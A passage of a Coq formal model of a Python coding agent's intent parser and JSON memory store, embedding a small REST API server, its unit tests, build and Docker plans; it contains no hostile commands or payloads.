  u "                self._respond(404, {" ++ dq ++ u "error" ++ dq ++ u ": " ++ dq ++ u "not found" ++ dq ++ u "})";
  u "        else:";
  u "            self._respond(404, {" ++ dq ++ u "error" ++ dq ++ u ": " ++ dq ++ u "not found" ++ dq ++ u "})";
  [];
  u "    def do_POST(self):";
  u "        length = int(self.headers.get('Content-Length', 0))";
  u "        body = self.rfile.read(length).decode()";
  u "        try:";
  u "            payload = json.loads(body)";
  u "            for k, v in payload.items():";
  u "                DATA[k] = v";
  u "            self._respond(201, {" ++ dq ++ u "stored" ++ dq ++ u ": payload})";
  u "        except json.JSONDecodeError:";
  u "            self._respond(400, {" ++ dq ++ u "error" ++ dq ++ u ": " ++ dq ++ u "invalid json" ++ dq ++ u "})";
  [];
  u "    def do_DELETE(self):";
  u "        if self.path.startswith('/data/'):";
  u "            key = self.path.split('/')[-1]";
  u "            if key in DATA:";
  u "                del DATA[key]";
  u "                self._respond(200, {" ++ dq ++ u "deleted" ++ dq ++ u ": key})";
  u "            else:";
  u "                self._respond(404, {" ++ dq ++ u "error" ++ dq ++ u ": " ++ dq ++ u "not found" ++ dq ++ u "})";
  u "        else:";
  u "            self._respond(400, {" ++ dq ++ u "error" ++ dq ++ u ": " ++ dq ++ u "specify key" ++ dq ++ u "})";
  [];
  u "    def _respond(self, code, body):";
  u "        self.send_response(code)";
  u "        self.send_header('Content-Type', 'application/json')";
  u "        self.end_headers()";
  u "        self.wfile.write(json.dumps(body).encode())";
  [];
  u "    def log_message(self, format, *args):";
  u "        pass  # Suppress default logging";
  [];
  u "if __name__ == '__main__':";
  u "    with socketserver.TCPServer((" ++ dq ++ dq ++ u ", PORT), APIHandler) as httpd:";
  u "        print(f" ++ dq ++ u "API listening on :{PORT}" ++ dq ++ u ")";
  u "        httpd.serve_forever()"
].

(** The text of [test_server.py] in [_plan_create_api]. *)
Definition test_code : str := unlines [
  u "#!/usr/bin/env python3";
  dq ++ dq ++ dq ++ u "API Server Tests." ++ dq ++ dq ++ dq;
  u "import unittest";
  u "import json";
  u "import threading";
  u "import http.client";
  u "import time";
  u "import sys";
  [];
  u "sys.path.insert(0, '.')";
  [];
  u "class TestAPI(unittest.TestCase):";
  u "    @classmethod";
  u "    def setUpClass(cls):";
  u "        from server import APIHandler";
  u "        import socketserver";
  u "        cls.port = 9999";
  u "        cls.server = socketserver.TCPServer((" ++ dq ++ dq ++ u ", cls.port), APIHandler)";
  u "        cls.thread = threading.Thread(target=cls.server.serve_forever)";
  u "        cls.thread.daemon = True";
  u "        cls.thread.start()";
  u "        time.sleep(0.5)";
  [];
  u "    @classmethod";
  u "    def tearDownClass(cls):";
  u "        cls.server.shutdown()";
  [];
  u "    def _request(self, method, path, body=None):";
  u "        conn = http.client.HTTPConnection(" ++ dq ++ u "localhost" ++ dq ++ u ", self.port)";
  u "        headers = {'Content-Type': 'application/json'} if body else {}";
  u "        conn.request(method, path, body=json.dumps(body) if body else None, headers=headers)";
  u "        resp = conn.getresponse()";
  u "        data = json.loads(resp.read().decode())";
  u "        conn.close()";
  u "        return resp.status, data";
  [];
  u "    def test_health(self):";
  u "        status, data = self._request(" ++ dq ++ u "GET" ++ dq ++ u ", " ++ dq ++ u "/health" ++ dq ++ u ")";
  u "        self.assertEqual(status, 200)";
  u "        self.assertEqual(data[" ++ dq ++ u "status" ++ dq ++ u "], " ++ dq ++ u "ok" ++ dq ++ u ")";
  [];
  u "    def test_post_and_get(self):";
  u "        status, data = self._request(" ++ dq ++ u "POST" ++ dq ++ u ", " ++ dq ++ u "/data" ++ dq ++ u ", {" ++ dq ++ u "key1" ++ dq ++ u ": " ++ dq ++ u "value1" ++ dq ++ u "})";
  u "        self.assertEqual(status, 201)";
  u "        status, data = self._request(" ++ dq ++ u "GET" ++ dq ++ u ", " ++ dq ++ u "/data/key1" ++ dq ++ u ")";
  u "        self.assertEqual(status, 200)";
  u "        self.assertEqual(data[" ++ dq ++ u "key1" ++ dq ++ u "], " ++ dq ++ u "value1" ++ dq ++ u ")";
  [];
  u "    def test_delete(self):";
  u "        self._request(" ++ dq ++ u "POST" ++ dq ++ u ", " ++ dq ++ u "/data" ++ dq ++ u ", {" ++ dq ++ u "delme" ++ dq ++ u ": " ++ dq ++ u "val" ++ dq ++ u "})";
  u "        status, data = self._request(" ++ dq ++ u "DELETE" ++ dq ++ u ", " ++ dq ++ u "/data/delme" ++ dq ++ u ")";
  u "        self.assertEqual(status, 200)";
  u "        status, data = self._request(" ++ dq ++ u "GET" ++ dq ++ u ", " ++ dq ++ u "/data/delme" ++ dq ++ u ")";
  u "        self.assertEqual(status, 404)";
  [];
  u "    def test_not_found(self):";
  u "        status, data = self._request(" ++ dq ++ u "GET" ++ dq ++ u ", " ++ dq ++ u "/nonexistent" ++ dq ++ u ")";
  u "        self.assertEqual(status, 404)";
  [];
  u "if __name__ == '__main__':";
  u "    unittest.main()"
].

Section WithSystem.
Context {U : UnicodeDB} {J : JsonLib} {W : Type} {Sys : System W}.

Variable project_root : str.     (* [self.project_root] *)

(** The pattern of the structured protocol, matched with [re.DOTALL]. *)
Definition TOOL_ARGS : regex :=
  "TOOL:\s*(\w+)\s*ARGS:\s*(.*)" ::=
  seq [l "TOOL:"; s_star; Grp 1 w_plus; s_star; l "ARGS:"; s_star; Grp 2 dot_star].

(** [_parse_tool_protocol(text)] *)
Definition _parse_tool_protocol (text : str) : option Plan :=
  match match_ DOT_ALL TOOL_ARGS text with
  | Some m =>
      let tool_name := get (group m 1) [] in
      let args_str := strip (get (group m 2) []) in
      let decoded :=
        match args_str with
        | [] => Some (JObject [])
        | _ => loads args_str
        end in
      match decoded with
      | Some a => Some (plan (u "tool_call") [{| tool := tool_name; args := a |}])
      | None => None                       (* JSONDecodeError, logged *)
      end
  | None => None
  end.

Definition stop_words : list str := [
  u "yeni"; u "new"; u "proje"; u "project"; u "olu" ++ chr 351 ++ u "tur"; u "create";
  u "init"; u "yarat"; u "a" ++ chr 231
].

(** The loop of [_extract_name] over the group indices [i], [i - 1], ..., 1. *)
Fixpoint extract_from (m : mstate) (i : nat) : option str :=
  match i with
  | O => None
  | S i' =>
      match group m i with
      | Some g =>
          if negb (Nat.eqb (length g) 0) && (1 <? length g)
             && negb (existsb (str_eqb (lower g)) stop_words)
          then Some (strip g)
          else extract_from m i'
      | None => extract_from m i'
      end
  end.

(** [_extract_name(match, raw)] *)
Definition _extract_name (m : mstate) (raw : str) : option str :=
  extract_from m (get (lastindex m) 0).

(** The two patterns of [_sanitize_name]. *)
Definition NOT_NAME_CHAR : regex :=
  "[^\w\s-]" ::= One (Cls true [ICat Word; ICat Space; ILit 45]).
Definition SPACES : regex :=
  "[\s]+" ::= Rep true 1 (Cls false [ICat Space]).

(** [_sanitize_name(name)] *)
Definition _sanitize_name (name : str) : str :=
  let name := sub NOFLAG NOT_NAME_CHAR [] (lower name) in
  let name := sub NOFLAG SPACES (u "_") (strip name) in
  match name with
  | [] => u "project"
  | _ => name
  end.

(** [_plan_create_project(name)] *)
Definition _plan_create_project (name : str) : Plan :=
  let path := project_root ++ u "/" ++ name in
  {| intent := u "create_project"; p_name := Some name; p_path := Some path;
     p_description := None; p_feature := None; p_raw := None;
     actions := [
       act "mkdir" [arg "path" (path)];
       act "git_init" [arg "path" (path)];
       act "write" [arg "path" (path ++ u "/README.md");
                    arg "content" (u "# " ++ name ++ nl ++ nl ++ u "Auto-generated project." ++ nl)];
       act "git_commit" [arg "path" (path); arg "message" (u "init: " ++ name)] ];
     requires_generation := false; p_error := None |}.

(** [_plan_create_api()] *)
Definition _plan_create_api : Plan :=
  let name := u "api_server" in
  let path := project_root ++ u "/" ++ name in
  {| intent := u "create_api"; p_name := Some name; p_path := Some path;
     p_description := None; p_feature := None; p_raw := None;
     actions := [
       act "mkdir" [arg "path" (path)];
       act "git_init" [arg "path" (path)];
       act "write" [arg "path" (path ++ u "/server.py"); arg "content" (server_code)];
       act "write" [arg "path" (path ++ u "/test_server.py"); arg "content" (test_code)];
       act "test" [arg "path" (path)];
       act "git_commit" [arg "path" (path);
                         arg "message" (u "feat: REST API server with CRUD and tests")] ];
     requires_generation := false; p_error := None |}.

(** [_plan_create_tool(description)] *)
Definition _plan_create_tool (description : str) : Plan :=
  let name := match _sanitize_name description with
              | [] => u "cli_tool"
              | n => n
              end in
  let path := project_root ++ u "/" ++ name in
  {| intent := u "create_tool"; p_name := Some name; p_path := Some path;
     p_description := Some description; p_feature := None; p_raw := None;
     actions := [ act "mkdir" [arg "path" (path)]; act "git_init" [arg "path" (path)] ];
     requires_generation := true; p_error := None |}.

(** [_plan_add_feature(feature)] *)
Definition _plan_add_feature (feature : str) : Plan :=
  {| intent := u "add_feature"; p_name := None; p_path := None; p_description := None;
     p_feature := Some feature; p_raw := None; actions := [];
     requires_generation := true; p_error := None |}.

(** [max(dirs, key=...)] over directories paired with their keys: the first
    one with the largest key. *)
Fixpoint max_by_key (best : str * Z) (rest : list (str * Z)) : str :=
  match rest with
  | [] => fst best
  | d :: rest' => max_by_key (if (snd best <? snd d)%Z then d else best) rest'
  end.

Fixpoint with_mtimes (w : W) (dirs : list str) : option (list (str * Z)) :=
  match dirs with
  | [] => Some []
  | d :: rest =>
      match getmtime d w, with_mtimes w rest with
      | Some t, Some keyed => Some ((d, t) :: keyed)
      | _, _ => None
      end
  end.

(** [_get_latest_project()]: any exception inside gives [None]. *)
Definition _get_latest_project (w : W) : option str :=
  match listdir project_root w with
  | inl entries =>
      let dirs := map (path_join project_root)
                      (filter (fun d => isdir (path_join project_root d) w) entries) in
      match with_mtimes w dirs with
      | Some (first :: rest) => Some (max_by_key first rest)
      | _ => None
      end
  | inr _ => None
  end.

(** [_plan_run_tests()] *)
Definition _plan_run_tests (w : W) : Plan :=
  match _get_latest_project w with
  | Some latest =>
      {| intent := u "run_tests"; p_name := None; p_path := Some latest;
         p_description := None; p_feature := None; p_raw := None;
         actions := [ act "test" [arg "path" (latest)] ];
         requires_generation := false; p_error := None |}
  | None =>
      {| intent := u "run_tests"; p_name := None; p_path := None;
         p_description := None; p_feature := None; p_raw := None;
         actions := [ act "ls" [arg "path" (project_root)] ];
         requires_generation := false; p_error := Some (u "No projects found") |}
  end.

(** [_plan_build()] *)
Definition _plan_build (w : W) : Plan :=
  match _get_latest_project w with
  | None =>
      {| intent := u "build"; p_name := None; p_path := None; p_description := None;
         p_feature := None; p_raw := None; actions := [];
         requires_generation := false; p_error := Some (u "No project found") |}
  | Some latest =>
      {| intent := u "build"; p_name := None; p_path := Some latest;
         p_description := None; p_feature := None; p_raw := None;
         actions := [
           act "run" [arg "command" (u "python3 -m py_compile *.py 2>&1 || make 2>&1 || echo 'No build system detected'");
                      arg "cwd" (latest)] ];
         requires_generation := false; p_error := None |}
  end.

(** [_plan_dockerize()] *)
Definition _plan_dockerize (w : W) : Plan :=
  match _get_latest_project w with
  | None =>
      {| intent := u "dockerize"; p_name := None; p_path := None; p_description := None;
         p_feature := None; p_raw := None; actions := [];
         requires_generation := false; p_error := Some (u "No project found") |}
  | Some latest =>
      let name := basename latest in
      let dockerfile := unlines [
        u "FROM python:3.12-alpine";
        u "WORKDIR /app";
        u "COPY . .";
        u "RUN pip install --no-cache-dir -r requirements.txt 2>/dev/null || true";
        u "EXPOSE 8080";
        u "CMD [" ++ dq ++ u "python3" ++ dq ++ u ", " ++ dq ++ u "main.py" ++ dq ++ u "]" ] in
      let compose := unlines [
        u "version: '3.8'";
        u "services:";
        u "  " ++ name ++ u ":";
        u "    build: .";
        u "    ports:";
        u "      - " ++ dq ++ u "8080:8080" ++ dq;
        u "    restart: unless-stopped" ] in
      {| intent := u "dockerize"; p_name := None; p_path := Some latest;
         p_description := None; p_feature := None; p_raw := None;
         actions := [
           act "write" [arg "path" (latest ++ u "/Dockerfile"); arg "content" (dockerfile)];
           act "write" [arg "path" (latest ++ u "/docker-compose.yml"); arg "content" (compose)];
           act "git_commit" [arg "path" (latest); arg "message" (u "feat: add Docker support")] ];
         requires_generation := false; p_error := None |}
  end.

(** [_plan_git_op(raw)] *)
Definition _plan_git_op (raw : str) (w : W) : Plan :=
  let latest := _get_latest_project w in
  let path := get latest project_root in
  if str_in (u "commit") (lower raw) || str_in (u "kaydet") (lower raw) then
    plan (u "git_commit")
         [ act "git_commit" [arg "path" (path); arg "message" (u "auto: checkpoint commit")] ]
  else if str_in (u "status") (lower raw) then
    plan (u "git_status") [ act "git_status" [arg "path" (path)] ]
  else if str_in (u "log") (lower raw) then
    plan (u "git_log") [ act "git_log" [arg "path" (path)] ]
  else plan (u "git_op") [ act "run" [arg "command" (raw)] ].

(** [_plan_fix(description)] *)
Definition _plan_fix (description : str) (w : W) : Plan :=
  {| intent := u "fix"; p_name := None; p_path := _get_latest_project w;
     p_description := Some description; p_feature := None; p_raw := None;
     actions := []; requires_generation := true; p_error := None |}.

(** [match.group(k) if match.lastindex >= k else raw_text], then a method
    call on the result: comparing a [lastindex] of [None] with a number raises
    [TypeError], calling the method on a group of [None] raises
    [AttributeError]. *)
Definition group_or_raw (m : mstate) (k : nat) (raw_text : str) : outcome str :=
  match lastindex m with
  | None =>
      Raise (TypeError (u "'>=' not supported between instances of 'NoneType' and 'int'"))
  | Some i =>
      if k <=? i then
        match group m k with
        | Some g => Ret g
        | None => Raise (AttributeError (u "'NoneType' object has no attribute 'strip'"))
        end
      else Ret raw_text
  end.

Definition shell_plan (raw_text : str) : Plan :=
  {| intent := u "shell"; p_name := None; p_path := None; p_description := None;
     p_feature := None; p_raw := Some raw_text;
     actions := [ act "run" [arg "command" (raw_text)] ];
     requires_generation := false; p_error := None |}.

Definition named (a : str) (b : string) : bool := str_eqb a (u b).

(** [_build_plan(intent, match, raw_text)] *)
Definition _build_plan (i : str) (m : mstate) (raw_text : str) (w : W) : outcome Plan :=
  if named i "create_project" then
    let name := match _extract_name m raw_text with
                | Some (c :: n) => c :: n
                | _ => u "new_project"
                end in
    let name := _sanitize_name name in
    Ret (_plan_create_project name)
  else if named i "create_api" then Ret _plan_create_api
  else if named i "create_tool" then
    match group_or_raw m 3 raw_text with
    | Ret desc => Ret (_plan_create_tool (strip desc))
    | Raise e => Raise e
    end
  else if named i "add_feature" then
    match group_or_raw m 2 raw_text with
    | Ret feature => Ret (_plan_add_feature (strip feature))
    | Raise e => Raise e
    end
  else if named i "run_tests" then Ret (_plan_run_tests w)
  else if named i "build" then Ret (_plan_build w)
  else if named i "dockerize" then Ret (_plan_dockerize w)
  else if named i "git_op" then Ret (_plan_git_op raw_text w)
  else if named i "list" then
    match group_or_raw m 2 project_root with
    | Ret target =>
        let path := match strip target with
                    | [] => project_root
                    | t => t
                    end in
        Ret (plan (u "list") [ act "ls" [arg "path" (path)] ])
    | Raise e => Raise e
    end
  else if named i "read_file" then
    match group_or_raw m 2 [] with
    | Ret filepath => Ret (plan (u "read_file") [ act "read" [arg "path" (strip filepath)] ])
    | Raise e => Raise e
    end
  else if named i "fix" then
    match group_or_raw m 2 raw_text with
    | Ret desc => Ret (_plan_fix (strip desc) w)
    | Raise e => Raise e
    end
  else if named i "shell" then Ret (shell_plan raw_text)
  else
    Ret {| intent := u "unknown"; p_name := None; p_path := None; p_description := None;
           p_feature := None; p_raw := Some raw_text; actions := [];
           requires_generation := false; p_error := None |}.

(** The two nested loops of [parse]: the first pattern of the first entry
    that matches, with its match and the entry's intent. *)
Fixpoint first_pattern (ps : list regex) (text : str) : option mstate :=
  match ps with
  | [] => None
  | p :: rest =>
      match match_ IGNORE p text with
      | Some m => Some m
      | None => first_pattern rest text
      end
  end.

Fixpoint first_entry (entries : list entry) (text : str) : option (str * mstate) :=
  match entries with
  | [] => None
  | e :: rest =>
      match first_pattern (patterns e) text with
      | Some m => Some (intent_of e, m)
      | None => first_entry rest text
      end
  end.

(** [parse(input_text)]: a plan, [None], or an exception. *)
Definition parse (input_text : str) (w : W) : outcome (option Plan) :=
  let text := strip input_text in
  match text with
  | [] => Ret None
  | _ =>
      if startswith text (u "TOOL:") then Ret (_parse_tool_protocol text)
      else
        match first_entry INTENT_PATTERNS text with
        | Some (i, m) =>
            match _build_plan i m text w with
            | Ret p => Ret (Some p)
            | Raise e => Raise e
            end
        | None => Ret (Some (shell_plan text))
        end
  end.

End WithSystem.

End Parser.

(* ================================================================== *)
(** * memory.py: [Memory] *)
(* ================================================================== *)

Module Mem.
Import PyStr Py OS.

(** ** Data *)

(** The state dictionary ([state.json]). *)
Record State := {
  boot_count : Z;
  total_goals_completed : Z;
  total_goals_failed : Z;
  total_commands_executed : Z;
  last_active_project : option str;
  last_boot : option timestamp
}.

(** One value of the project registry ([projects.json]). *)
Record Project := {
  path : str;
  description : str;
  language : str;
  created : timestamp;
  last_modified : timestamp;
  commit_count : Z;
  test_pass : option bool
}.

(** One entry of a pattern list; [error] is present in failed patterns. *)
Record Pattern := {
  goal : str;
  approach : list str;
  error : option str;
  timestamp_ : timestamp
}.

(** The pattern archive ([patterns.json]). *)
Record Patterns := {
  successful_patterns : list Pattern;
  failed_patterns : list Pattern
}.

(** One line of the history log ([history.jsonl]). *)
Record HistoryEntry := {
  h_timestamp : timestamp;
  h_type : str;
  h_details : str;
  h_success : bool
}.

(** The [Memory] object. *)
Record Memory := {
  memory_dir : str;
  state_file : str;
  history_file : str;
  projects_file : str;
  patterns_file : str;
  state : State;
  projects : list (str * Project);       (* name -> record, in insertion order *)
  patterns : Patterns
}.

(** The [json] encoder and decoder at the type of one collection; the
    store reads back what it wrote, or finds the file corrupt: [load] gives
    [None] for [json.JSONDecodeError]. *)
Class Codec (A : Type) := {
  dump : A -> str;             (* json.dump(data, f, indent=2), json.dumps(entry) *)
  load : str -> option A       (* json.load(f) *)
}.

Definition default_state : State :=
  {| boot_count := 0; total_goals_completed := 0; total_goals_failed := 0;
     total_commands_executed := 0; last_active_project := None; last_boot := None |}.

Definition default_patterns : Patterns :=
  {| successful_patterns := []; failed_patterns := [] |}.

(** [d[key] = value] on a dictionary kept in insertion order. *)
Fixpoint dict_set (A : Type) (key : str) (value : A) (d : list (str * A)) : list (str * A) :=
  match d with
  | [] => [(key, value)]
  | (k, v) :: d' =>
      if str_eqb k key then (k, value) :: d' else (k, v) :: dict_set key value d'
  end.

(** [d.get(key)] *)
Fixpoint dict_get (A : Type) (key : str) (d : list (str * A)) : option A :=
  match d with
  | [] => None
  | (k, v) :: d' => if str_eqb k key then Some v else dict_get key d'
  end.

(** A keyword argument of [update_project]: a field of the record and its
    new value. *)
Inductive Field :=
| F_path (v : str)
| F_description (v : str)
| F_language (v : str)
| F_created (v : timestamp)
| F_last_modified (v : timestamp)
| F_commit_count (v : Z)
| F_test_pass (v : option bool).

(** [record.update(kwargs)], one key at a time. *)
Definition assign (r : Project) (f : Field) : Project :=
  match f with
  | F_path v =>
      {| path := v; description := description r; language := language r;
         created := created r; last_modified := last_modified r;
         commit_count := commit_count r; test_pass := test_pass r |}
  | F_description v =>
      {| path := path r; description := v; language := language r;
         created := created r; last_modified := last_modified r;
         commit_count := commit_count r; test_pass := test_pass r |}
  | F_language v =>
      {| path := path r; description := description r; language := v;
         created := created r; last_modified := last_modified r;
         commit_count := commit_count r; test_pass := test_pass r |}
  | F_created v =>
      {| path := path r; description := description r; language := language r;
         created := v; last_modified := last_modified r;
         commit_count := commit_count r; test_pass := test_pass r |}
  | F_last_modified v =>
      {| path := path r; description := description r; language := language r;
         created := created r; last_modified := v;
         commit_count := commit_count r; test_pass := test_pass r |}
  | F_commit_count v =>
      {| path := path r; description := description r; language := language r;
         created := created r; last_modified := last_modified r;
         commit_count := v; test_pass := test_pass r |}
  | F_test_pass v =>
      {| path := path r; description := description r; language := language r;
         created := created r; last_modified := last_modified r;
         commit_count := commit_count r; test_pass := v |}
  end.

(** [f.readlines()]: the lines of a text, each with its newline. *)
Fixpoint readlines (s : str) : list str :=
  match s with
  | [] => []
  | c :: s' =>
      if (c =? LF)%N then [c] :: readlines s'
      else match readlines s' with
           | [] => [[c]]
           | line :: rest => (c :: line) :: rest
           end
  end.

(** [lines[-count:]]: the last [count] lines for a positive [count], every
    line for 0, and the lines from index [-count] on for a negative one. *)
Definition last_lines (A : Type) (count : Z) (lines : list A) : list A :=
  if (0 <? count)%Z then skipn (length lines - Z.to_nat count) lines
  else skipn (Z.to_nat (- count)) lines.

Section WithSystem.
Context {W : Type} {Sys : System W}.
Context {CState : Codec State} {CProjects : Codec (list (str * Project))}
        {CPatterns : Codec Patterns} {CEntry : Codec HistoryEntry}.

(** [_load_json(path, default)] *)
Definition _load_json (A : Type) {C : Codec A} (path : str) (default : A) (w : W) : A :=
  if exists_ path w then
    match read_text path w with
    | Content c =>
        match load c with
        | Some data => data
        | None => default              (* JSONDecodeError, logged *)
        end
    | FileNotFound => default          (* IOError, logged *)
    | ReadError _ => default
    end
  else default.

(** [_save_json(path, data)]: an [IOError] is logged and swallowed. *)
Definition _save_json (A : Type) {C : Codec A} (path : str) (data : A) (w : W) : W :=
  snd (write_text path (dump data) w).

(** [_save_state()] *)
Definition _save_state (m : Memory) (w : W) : W :=
  _save_json (state_file m) (state m) w.

Definition with_state (m : Memory) (s : State) : Memory :=
  {| memory_dir := memory_dir m; state_file := state_file m;
     history_file := history_file m; projects_file := projects_file m;
     patterns_file := patterns_file m; state := s; projects := projects m;
     patterns := patterns m |}.

Definition with_patterns (m : Memory) (p : Patterns) : Memory :=
  {| memory_dir := memory_dir m; state_file := state_file m;
     history_file := history_file m; projects_file := projects_file m;
     patterns_file := patterns_file m; state := state m; projects := projects m;
     patterns := p |}.

Definition with_projects (m : Memory) (p : list (str * Project)) : Memory :=
  {| memory_dir := memory_dir m; state_file := state_file m;
     history_file := history_file m; projects_file := projects_file m;
     patterns_file := patterns_file m; state := state m; projects := p;
     patterns := patterns m |}.

(** [Memory.__init__(memory_dir)]: the object and the world it leaves, or
    the exception of [os.makedirs]. *)
Definition __init__ (dir : str) (w : W) : outcome Memory * W :=
  let state_file := path_join dir (u "state.json") in
  let history_file := path_join dir (u "history.jsonl") in
  let projects_file := path_join dir (u "projects.json") in
  let patterns_file := path_join dir (u "patterns.json") in
  match makedirs dir w with
  | (Some e, w1) => (Raise (OSError e), w1)
  | (None, w1) =>
      let loaded := _load_json state_file default_state w1 in
      let projects := _load_json projects_file [] w1 in
      let patterns := _load_json patterns_file default_patterns w1 in
      (* Update boot state *)
      let (now, w2) := time_time w1 in
      let state :=
        {| boot_count := boot_count loaded + 1;
           total_goals_completed := total_goals_completed loaded;
           total_goals_failed := total_goals_failed loaded;
           total_commands_executed := total_commands_executed loaded;
           last_active_project := last_active_project loaded;
           last_boot := Some now |} in
      let m := {| memory_dir := dir; state_file := state_file;
                  history_file := history_file; projects_file := projects_file;
                  patterns_file := patterns_file; state := state;
                  projects := projects; patterns := patterns |} in
      (Ret m, _save_state m w2)
  end.

(** [record_action(action_type, details, success)] *)
Definition record_action (m : Memory) (action_type details : str) (success : bool) (w : W)
  : Memory * W :=
  let (now, w1) := time_time w in
  let entry := {| h_timestamp := now; h_type := action_type; h_details := details;
                  h_success := success |} in
  let w2 := snd (append_text (history_file m) (dump entry ++ nl) w1) in
  let s := state m in
  let m' := with_state m
    {| boot_count := boot_count s;
       total_goals_completed := total_goals_completed s;
       total_goals_failed := total_goals_failed s;
       total_commands_executed := total_commands_executed s + 1;
       last_active_project := last_active_project s;
       last_boot := last_boot s |} in
  (m', _save_state m' w2).

(** [register_project(name, path, description, language)] *)
Definition register_project (m : Memory) (name path description language : str) (w : W)
  : Memory * W :=
  let (t1, w1) := time_time w in
  let (t2, w2) := time_time w1 in
  let record := {| path := path; description := description; language := language;
                   created := t1; last_modified := t2; commit_count := 0;
                   test_pass := None |} in
  let s := state m in
  let m1 := with_projects m (dict_set name record (projects m)) in
  let m2 := with_state m1
    {| boot_count := boot_count s;
       total_goals_completed := total_goals_completed s;
       total_goals_failed := total_goals_failed s;
       total_commands_executed := total_commands_executed s;
       last_active_project := Some name;
       last_boot := last_boot s |} in
  let w3 := _save_json (projects_file m2) (projects m2) w2 in
  (m2, _save_state m2 w3).

(** [update_project(name, **kwargs)] *)
Definition update_project (m : Memory) (name : str) (kwargs : list Field) (w : W)
  : Memory * W :=
  match dict_get name (projects m) with
  | Some record =>
      let updated := fold_left assign kwargs record in
      let (now, w1) := time_time w in
      let m1 := with_projects m
        (dict_set name (assign updated (F_last_modified now)) (projects m)) in
      (m1, _save_json (projects_file m1) (projects m1) w1)
  | None => (m, w)
  end.

(** The loop of [get_recent_history]: a line that does not decode is
    skipped. *)
Fixpoint decode_lines (lines : list str) : list HistoryEntry :=
  match lines with
  | [] => []
  | line :: rest =>
      match load (strip line) with
      | Some entry => entry :: decode_lines rest
      | None => decode_lines rest              (* JSONDecodeError *)
      end
  end.

(** [get_recent_history(count)] *)
Definition get_recent_history (m : Memory) (count : Z) (w : W) : list HistoryEntry :=
  if exists_ (history_file m) w then
    match read_text (history_file m) w with
    | Content c => decode_lines (last_lines count (readlines c))
    | FileNotFound => []                       (* IOError *)
    | ReadError _ => []
    end
  else [].

(** [get_project(name)] and [get_active_project()] *)
Definition get_project (m : Memory) (name : str) : option Project :=
  dict_get name (projects m).

Definition get_active_project (m : Memory) : option str :=
  last_active_project (state m).

(** [record_success(goal_description, approach)] *)
Definition record_success (m : Memory) (goal_description : str) (approach : list str)
    (w : W) : Memory * W :=
  let (now, w1) := time_time w in
  let p := patterns m in
  let appended := successful_patterns p ++
    [{| goal := goal_description; approach := approach; error := None;
        timestamp_ := now |}] in
  (* Keep only last 100 patterns *)
  let m1 := with_patterns m
    {| successful_patterns := slice_last 100 appended;
       failed_patterns := failed_patterns p |} in
  let w2 := _save_json (patterns_file m1) (patterns m1) w1 in
  let s := state m1 in
  let m2 := with_state m1
    {| boot_count := boot_count s;
       total_goals_completed := total_goals_completed s + 1;
       total_goals_failed := total_goals_failed s;
       total_commands_executed := total_commands_executed s;
       last_active_project := last_active_project s;
       last_boot := last_boot s |} in
  (m2, _save_state m2 w2).

(** [record_failure(goal_description, approach, error)] *)
Definition record_failure (m : Memory) (goal_description : str) (approach : list str)
    (error : str) (w : W) : Memory * W :=
  let (now, w1) := time_time w in
  let p := patterns m in
  let appended := failed_patterns p ++
    [{| goal := goal_description; approach := approach;
        error := Some (slice_to 500 error); timestamp_ := now |}] in
  let m1 := with_patterns m
    {| successful_patterns := successful_patterns p;
       failed_patterns := slice_last 100 appended |} in
  let w2 := _save_json (patterns_file m1) (patterns m1) w1 in
  let s := state m1 in
  let m2 := with_state m1
    {| boot_count := boot_count s;
       total_goals_completed := total_goals_completed s;
       total_goals_failed := total_goals_failed s + 1;
       total_commands_executed := total_commands_executed s;
       last_active_project := last_active_project s;
       last_boot := last_boot s |} in
  (m2, _save_state m2 w2).

(** [get_successful_patterns()] and [get_failed_patterns()] *)
Definition get_successful_patterns (m : Memory) : list Pattern :=
  successful_patterns (patterns m).

Definition get_failed_patterns (m : Memory) : list Pattern :=
  failed_patterns (patterns m).

(** Consecutive [record_success] calls, one per (description, approach). *)
Fixpoint record_successes (m : Memory) (calls : list (str * list str)) (w : W)
  : Memory * W :=
  match calls with
  | [] => (m, w)
  | (d, a) :: rest =>
      let (m', w') := record_success m d a w in
      record_successes m' rest w'
  end.

End WithSystem.

End Mem.

(* ================================================================== *)
(** * Notions used to state the properties *)
(* ================================================================== *)

Module Notions.
Import PyStr Re Py OS Executor.

(** The propositional reading of [in], [startswith] and [endswith]. *)
Definition occurs_in (p s : str) : Prop := exists a b, s = a ++ p ++ b.
Definition has_prefix (s p : str) : Prop := exists b, s = p ++ b.
Definition has_suffix (s p : str) : Prop := exists a, s = a ++ p.

(** The ASCII control characters: U+0000 to U+001F, and U+007F. *)
Definition ascii_control (c : char) : bool := (c <? 32)%N || (c =? 127)%N.

(** A text that does not start with white space. *)
Definition starts_unspaced (s : str) : Prop :=
  match s with
  | [] => True
  | c :: _ => isspace c = false
  end.

(** A line [enforce] keeps: not blank, and matched by no conversational
    pattern. *)
Definition kept_line {U : UnicodeDB} (line : str) : bool :=
  match strip line with
  | [] => false
  | stripped => negb (Enforce.is_chat Enforce.CONVERSATIONAL_PATTERNS stripped)
  end.

(** The last part of [enforce], the filter line by line. *)
Definition by_line {U : UnicodeDB} (t : str) : option str :=
  match Enforce.clean (split_on LF t) with
  | [] => None
  | _ => match strip (join nl (Enforce.clean (split_on LF t))) with
         | [] => None
         | r => Some r
         end
  end.

(** The control characters that are white space in a line of text. *)
Definition tab_lf_cr (c : char) : bool := (c =? TAB)%N || (c =? LF)%N || (c =? CR)%N.

(** An error text that takes [_pattern_repair] to its syntax-error rule while
    no [import re] has run. *)
Definition syntax_rule_before_import {U : UnicodeDB} (error_msg : str) : bool :=
  let error_lower := lower error_msg in
  str_in (u "syntaxerror") error_lower
  && negb (str_in (u "importerror") error_lower
           || str_in (u "modulenotfounderror") error_lower).

(** The number of stages of a report with a given name. *)
Definition count_stage (n : stage_name) (r : Report) : nat :=
  length (filter (fun s => match name s, n with
                           | setup, setup | codegen, codegen | verify, verify
                           | repair, repair | commit, commit | error, error => true
                           | _, _ => false
                           end) (stages r)).

(** A stage of a report. *)
Definition stage_of (n : stage_name) (v : stage_status) (d : str) (c : option str) : Stage :=
  {| name := n; status := v; detail := d; command := c |}.

Section Effects.
Context {W : Type}.

(** What a computation of the pipeline does to the report and the goal: it
    returns [a] and appends the stage [s], or returns [a] and leaves both
    alone. *)
Definition appends (A : Type) (c : @M W A) (st : @pstate W) (a : A) (s : Stage)
    (st' : @pstate W) : Prop :=
  c st = (Ret a, st') /\ report st' = push_stage s (report st) /\ goal st' = goal st.

Definition keeps (A : Type) (c : @M W A) (st : @pstate W) (a : A) (st' : @pstate W)
  : Prop :=
